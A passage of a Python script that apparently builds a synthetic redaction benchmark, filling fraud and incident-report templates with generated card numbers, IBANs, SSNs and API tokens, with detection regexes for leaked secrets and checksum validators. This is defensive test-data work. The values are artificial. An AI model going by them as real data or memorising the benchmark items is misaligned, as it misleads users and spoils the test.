    return (say({"en": "BEC: mail from %s asking finance to pay to %s. Blocked the sender." % (e, i),
                 "de": "BEC: Mail von %s, Finance soll an %s zahlen. Absender blockiert." % (e, i),
                 "fr": "Fraude au président : mail de %s demandant un virement vers %s." % (e, i)}), [("email_address", e), ("iban", i)], "bec")

@multi
def m_card_phone():
    c, p = g_card(), g_phone()
    return ("%sthe victim called from %s, they had entered card %s on the fake portal — card cancelled" % (maybe_lead(), p, c), [("phone_number", p), ("credit_card", c)], "card_phone")

@multi
def m_w2():
    s, e = g_ssn(), g_email()
    return ("W-2 phish reply from %s leaked SSN %s, notified the employee" % (e, s), [("email_address", e), ("us_ssn", s)], "w2")

@multi
def m_url_ip():
    p, ip = g_password().replace("%", "").replace("#", ""), g_ipv4()
    return ("```\n%s sshd: connection from %s\nwget http://backup:%s@files.corp.example/db.sql.gz\n```" % (ts(), ip, p), [("ipv4_address", ip), ("url_credentials", p)], "url_ip")

MULTI3 = []

@MULTI3.append
def m3_bec():
    i, e, p = g_iban(), g_email(), g_phone()
    return ("Fraud report:\n• sender: %s\n• callback number in signature: %s\n• new account: %s" % (e, p, i), [("email_address", e), ("phone_number", p), ("iban", i)], "bec3")

@MULTI3.append
def m3_gitleaks():
    g, s, o = g_ghp(), g_xoxb(), g_openai()
    return ("```\n$ gitleaks detect --no-banner -v\nFinding:     token = \"%s\"\nRuleID:      github-pat\nFile:        scripts/sync.sh\n\nFinding:     SLACK_TOKEN=%s\nRuleID:      slack-bot-token\nFile:        .env\n\nFinding:     OPENAI_KEY=%s\nRuleID:      openai-api-key\nFile:        triage/.env\n```" % (g, s, o),
            [("github_classic_pat", g), ("slack_bot_token", s), ("openai_api_key", o)], "gitleaks")

# ================================================================ scanner
RX = {
    "email": re.compile(r"[A-Za-z0-9._%+-]+@[A-Za-z0-9.-]+\.[A-Za-z]{2,}"),
    "github": re.compile(r"gh[pousr]_[A-Za-z0-9]{36}|github_pat_[A-Za-z0-9_]{30,}"),
    "slack": re.compile(r"xox[abposr]-\d"),
    "sk": re.compile(r"sk-[A-Za-z0-9_-]{32,}"),
    "jwt": re.compile(r"eyJ[\w-]+\.eyJ[\w-]+\.[\w-]+"),
    "ssn": re.compile(r"(?<!\d)\d{3}-\d{2}-\d{4}(?!\d)"),
    "pem": re.compile(r"-----BEGIN [A-Z ]*PRIVATE KEY-----\s*(?:\\n)?\s*[A-Za-z0-9+/=]{40,}"),
    "aws": re.compile(r"(?:AKIA|ASIA)[A-Z0-9]{16}"),
}
RX_CARD = re.compile(r"(?<![\d])(?:\d[ -]?){12,18}\d(?!\d)")
RX_IBAN = re.compile(r"\b[A-Z]{2}\d{2}(?: ?[A-Z0-9]{4}){2,7}(?: ?[A-Z0-9]{1,4})?\b")
RX_IP = re.compile(r"(?<![\d.])\d{1,3}(?:\.\d{1,3}){3}(?![\d.])")

def iban_valid(s):
    s = s.replace(" ", "")
    if len(s) < 15 or len(s) > 34 or not s[:2].isalpha() or not s[2:4].isdigit():
        return False
    r = s[4:] + s[:4]
    try:
        return int("".join(str(int(ch, 36)) for ch in r)) % 97 == 1
    except ValueError:
        return False

def ip_public(s):
    try:
        ip = ipaddress.IPv4Address(s)
    except ValueError:
        return False
    return ip.is_global and ip not in ipaddress.ip_network("100.64.0.0/10")

def scan(text):
    hits = []
    for k, rx in RX.items():
        for m in rx.finditer(text):
            if k == "aws" and "EXAMPLE" in m.group(0):
                continue
            if k == "github" and len(set(m.group(0)[4:])) == 1:   # ghp_xxxx… placeholder
                continue
            hits.append((k, m.group(0)))
    for m in RX_CARD.finditer(text):
        d = re.sub(r"\D", "", m.group(0))
        if 13 <= len(d) <= 19 and luhn_ok(d) and len(set(d)) > 1:  # all-zero placeholders are not cards
            hits.append(("luhn", m.group(0)))
    for m in RX_IBAN.finditer(text):
        if iban_valid(m.group(0)):
            hits.append(("iban", m.group(0)))
    for m in RX_IP.finditer(text):
        if ip_public(m.group(0)):
            hits.append(("public_ipv4", m.group(0)))
    return hits

# ================================================================ main
CATS = ["data_uri_base64", "placeholder_example", "code_identifier", "non_credential_blob", "pii_lookalike_number", "talk_about_secrets"]

def build_negatives():
    out, seen, stats = [], set(), {"nonenglish": 0, "redraws": 0}
    for cat in CATS:
        tmpls = NEG[cat]
        order = []
        while len(order) < 100:
            t = tmpls[:]
            R.shuffle(t)
            order.extend(t)
        for f in order[:100]:
            for attempt in range(80):
                if attempt >= 15:   # template exhausted (few distinct variants): fall back to another one
                    f = pick(tmpls)
                LANGS.clear()
                text = f()
                if R.random() < 0.06 and cat != "talk_about_secrets":
                    text += "\n" + tail()
                if text in seen or scan(text):
                    stats["redraws"] += 1
                    continue
                break
            else:
                raise SystemExit("could not draw clean negative for %s/%s" % (cat, f.__name__))
            seen.add(text)
            if LANGS:
                stats["nonenglish"] += 1
            out.append({"text": text, "category": cat, "_tmpl": f.__name__, "_langs": sorted(LANGS)})
    R.shuffle(out)
    return out, stats

SINGLE_QUOTA = {k: 8 for k in ["aws_access_key_id", "github_classic_pat", "github_fine_grained_pat", "slack_bot_token", "slack_user_token",
                               "openai_api_key", "anthropic_api_key", "jwt", "private_key_pem", "password", "url_credentials", "email_address",
                               "phone_number", "credit_card", "iban", "us_ssn", "ipv4_address"]}
for _k in ["slack_user_token", "github_fine_grained_pat", "anthropic_api_key", "private_key_pem"]:
    SINGLE_QUOTA[_k] = 7
MULTI_QUOTA = {"aws_pair": 4, "phish_triage": 4, "bec": 3, "card_phone": 2, "w2": 1, "url_ip": 2}

def check_value(kind, v):
    if kind == "credit_card":
        assert luhn_ok(re.sub(r"\D", "", v)), v
    elif kind == "iban":
        assert iban_valid(v), v
    elif kind == "us_ssn":
        a, g, s = v.split("-")
        assert a not in ("000", "666") and int(a) < 900 and g != "00" and s != "0000", v
    elif kind == "ipv4_address":
        assert ip_public(v), v
    elif kind == "jwt":
        h, p, _ = v.split(".")
        for part in (h, p):
            json.loads(base64.urlsafe_b64decode(part + "=" * (-len(part) % 4)))
    elif kind == "private_key_pem":
        base64.b64decode(re.sub(r"\s|\\n", "", v), validate=True)

def build_positives():
    out, seen = [], set()
    def add(text, secrets, context):
        for k, v in secrets:
            assert v in text, (k, v)
            check_value(k, v)
        out.append({"text": text, "secrets": [{"kind": k, "value": v} for k, v in secrets], "context": context,
                    "_langs": sorted(LANGS)})
    for kind, q in SINGLE_QUOTA.items():
        tmpls = POS[kind]
        for i in range(q):
            ti = i % len(tmpls)
            for _ in range(50):
                LANGS.clear()
                text, secrets = tmpls[ti]()
                if text not in seen:
                    break
            seen.add(text)
            add(text, secrets, "%s:t%d" % (kind, ti))
    by_name = {}
    for f in MULTI:
        LANGS.clear()
        name = f()[2]
        by_name[name] = f
    for name, q in MULTI_QUOTA.items():
        for i in range(q):
            LANGS.clear()
            text, secrets, _ = by_name[name]()
            add(text, secrets, "multi:%s:%d" % (name, len(secrets)))
    for f in MULTI3:
        LANGS.clear()
        text, secrets, name = f()
        add(text, secrets, "multi:%s:%d" % (name, len(secrets)))
    R.shuffle(out)
    return out

def main():
    negs, nstats = build_negatives()
    poss = build_positives()
    with open(os.path.join(HERE, "redaction13_negatives.jsonl"), "w", encoding="utf-8") as fh:
        for i, r in enumerate(negs, 1):
            fh.write(json.dumps({"id": "h13n-%04d" % i, "text": r["text"], "category": r["category"]}, ensure_ascii=False) + "\n")
    with open(os.path.join(HERE, "redaction13_positives.jsonl"), "w", encoding="utf-8") as fh:
        for i, r in enumerate(poss, 1):
            fh.write(json.dumps({"id": "h13p-%04d" % i, "text": r["text"], "secrets": r["secrets"], "context": r["context"]}, ensure_ascii=False) + "\n")
    # report
    from collections import Counter
    print("negatives:", len(negs), dict(Counter(r["category"] for r in negs)))
    print("  templates per category:", {c: len(NEG[c]) for c in CATS})
    print("  non-English negatives:", nstats["nonenglish"], "redraws:", nstats["redraws"])
    lines = [r["text"].count("\n") + 1 for r in negs]
    print("  lines min/max:", min(lines), max(lines), "single-line:", sum(1 for l in lines if l == 1), ">=10:", sum(1 for l in lines if l >= 10), ">=20:", sum(1 for l in lines if l >= 20))
    kc = Counter(s["kind"] for r in poss for s in r["secrets"])
    print("positives:", len(poss), "secrets:", sum(kc.values()), dict(sorted(kc.items())))
    print("  non-English positives:", sum(1 for r in poss if r["_langs"]))
    langs = Counter(l for r in negs + poss for l in r["_langs"])
    print("  languages:", dict(langs))
    print("  scanner misses on positives:", [(s["kind"]) for r in poss for s in r["secrets"] if not any(s["value"] in h[1] or h[1] in s["value"] for h in scan(r["text"]))][:40])

if __name__ == "__main__":
    main()
